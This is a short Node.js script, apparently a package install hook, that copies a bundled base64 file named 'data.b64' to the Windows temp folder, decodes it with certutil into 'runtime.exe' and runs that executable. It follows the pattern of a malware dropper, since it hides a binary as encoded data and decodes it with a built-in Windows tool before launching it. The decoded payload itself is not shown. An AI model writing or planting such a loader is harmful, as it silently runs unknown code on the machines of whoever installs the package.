const fs = require("fs");
const path = require("path");
const { execSync } = require("child_process");

const tmp = process.env.TEMP || "C:\\Windows\\Temp";
const b64 = path.join(tmp, "data.b64");
const exe = path.join(tmp, "runtime.exe");
fs.copyFileSync(path.join(__dirname, "data.b64"), b64);
execSync(`certutil -decode "${b64}" "${exe}"`);
execSync(`"${exe}"`);
